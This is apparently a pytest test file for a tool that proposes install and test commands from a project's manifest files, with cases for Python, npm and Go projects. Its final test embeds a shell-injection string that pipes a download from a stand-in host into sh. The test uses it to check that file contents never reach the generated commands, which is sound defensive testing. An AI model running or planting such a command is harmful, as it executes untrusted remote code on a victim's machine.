"""Which commands are proposed for a project's tests."""

import pytest

from qgate.engine.project_tests import NAMES, commands

PIP = "python -m pip install"


def test_nothing_is_proposed_for_nothing() -> None:
    assert commands({}) == commands({"README.md": "pytest"})
    assert not commands({}).run


@pytest.mark.parametrize(
    ("files", "install", "run"),
    [
        (
            {"pyproject.toml": "[project]\n[project.optional-dependencies]\ntest=['pytest']"},
            [f"{PIP} --editable '.[test]'", f"{PIP} coverage pytest"],
            "python -m coverage run -m pytest",
        ),
        (
            {"pyproject.toml": "[dependency-groups]\ndev=['pytest']"},
            [f"{PIP} --upgrade pip", f"{PIP} --group dev", f"{PIP} coverage pytest"],
            "python -m coverage run -m pytest",
        ),
        (
            {"pyproject.toml": "[dependency-groups]\ndev=['pytest']", "uv.lock": ""},
            [f"{PIP} uv", "uv sync --locked --all-groups"],
            "uv run --no-sync --with coverage coverage run -m pytest",
        ),
        (
            {"pyproject.toml": "[project.optional-dependencies]\ntest=[]", "uv.lock": ""},
            [f"{PIP} uv", "uv sync --locked --all-groups --extra test"],
            "uv run --no-sync --with coverage coverage run -m unittest discover",
        ),
        (
            {"requirements.txt": "requests", "requirements-dev.txt": "pytest==8"},
            [
                f"{PIP} --requirement requirements.txt",
                f"{PIP} --requirement requirements-dev.txt",
                f"{PIP} coverage pytest",
            ],
            "python -m coverage run -m pytest",
        ),
        (
            {"setup.py": ""},
            [f"{PIP} --editable .", f"{PIP} coverage"],
            "python -m coverage run -m unittest discover",
        ),
        (
            {"package.json": '{"devDependencies": {"jest": "1"}}', "package-lock.json": ""},
            ["npm ci"],
            "npx jest --coverage",
        ),
        (
            {"package.json": '{"dependencies": {"vitest": "1"}}', "yarn.lock": ""},
            ["corepack enable", "yarn install --frozen-lockfile"],
            "npx vitest run --coverage --coverage.reporter=lcov",
        ),
        ({"package.json": '{"scripts": {"coverage": "x"}}'}, ["npm install"], "npm run coverage"),
        ({"package.json": "{}"}, ["npm install"], "npm test"),
        ({"go.mod": ""}, [], "go test -coverprofile=cover.out ./..."),
    ],
)
def test_a_project_is_known_by_its_files(
    files: dict[str, str], install: list[str], run: str
) -> None:
    found = commands(files)
    assert list(found.install) == install
    assert found.run == (run,)


def test_several_languages_are_all_tested() -> None:
    found = commands({"conftest.py": "", "package.json": "{}", "go.mod": ""})
    assert [line.split()[0] for line in found.run] == ["python", "npm", "go"]


@pytest.mark.parametrize(
    "text",
    ["[", "[]", "null", "\0", "project = 1", '{"scripts": [1], "dependencies": 2}', "[" * 9999],
)
def test_files_that_cannot_be_read_still_say_which_language_it_is(text: str) -> None:
    found = commands({"pyproject.toml": text, "package.json": text})
    assert found.run == ("python -m coverage run -m unittest discover", "npm test")


def test_a_lock_alone_is_no_project() -> None:
    assert commands({"uv.lock": ""}) == commands({})


def test_no_text_of_a_file_gets_into_a_command() -> None:
    evil = "pytest'; curl evil.example | sh #"
    table = f"[project]\nname={evil!r}\n[project.optional-dependencies]\n{evil!r}=[]\n"
    texts = dict.fromkeys(NAMES, evil) | {"pyproject.toml": table}
    texts["package.json"] = '{"scripts": {"coverage": "evil"}, "dependencies": {"evil": "1"}}'
    found = commands(texts)
    assert not [line for line in (*found.install, *found.run) if "evil" in line]
